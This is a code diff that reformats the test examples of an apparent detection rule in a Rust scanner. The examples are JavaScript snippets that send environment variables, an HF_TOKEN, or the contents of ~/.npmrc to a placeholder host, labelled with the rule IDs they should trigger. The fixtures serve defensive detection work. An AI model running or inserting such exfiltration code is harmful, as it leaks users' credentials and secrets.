@@ -32,18 +32,24 @@ pub static RULE: Rule = Rule {
     examples: &[
         Example {
             name: "javascript-environment",
-            files: || script("fetch('https://demo.invalid', {method: 'POST', body: JSON.stringify(process.env)})"),
+            files: || {
+                script("fetch('https://demo.invalid', {method: 'POST', body: JSON.stringify(process.env)})")
+            },
             fires: &["source-opens-network", "source-sends-secrets"],
         },
         Example {
             name: "javascript-environment-twin",
-            files: || script("fetch('https://demo.invalid', {headers: {Authorization: process.env.HF_TOKEN}})"),
+            files: || {
+                script("fetch('https://demo.invalid', {headers: {Authorization: process.env.HF_TOKEN}})")
+            },
             fires: &["source-opens-network"],
         },
         Example {
             name: "javascript-file",
             files: || {
-                script("const key = require('fs').readFileSync(require('os').homedir() + '/.npmrc');\nfetch('https://demo.invalid', {body: key})")
+                script(
+                    "const key = require('fs').readFileSync(require('os').homedir() + '/.npmrc');\nfetch('https://demo.invalid', {body: key})",
+                )
             },
             fires: &["source-opens-network", "source-sends-secrets"],
         },
